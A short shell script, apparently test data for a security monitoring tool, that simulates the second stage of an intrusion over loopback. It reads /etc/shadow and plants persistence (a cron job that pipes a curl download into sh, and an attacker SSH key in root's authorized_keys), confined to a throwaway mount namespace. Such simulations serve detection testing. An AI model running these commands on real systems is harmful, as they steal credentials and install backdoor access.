#!/bin/sh
# Stage 2 of the scripted intrusion, served over loopback by testdata/make-incident.sh.
id
uname -a
ps -e >/dev/null
cat /etc/shadow >/dev/null
# Persistence, inside a private mount namespace on tmpfs: the host is not changed.
unshare -m sh -c '
	mount -t tmpfs syscam-demo /etc/cron.d
	echo "* * * * * root curl -s http://127.0.0.1:8765/stage2.sh | sh" >/etc/cron.d/syscam-demo
	mount -t tmpfs syscam-demo /root && mkdir -p /root/.ssh
	echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoKeyDemoKeyDemoKeyDemoKeyDemoKeyDemo attacker@evil" >>/root/.ssh/authorized_keys
'
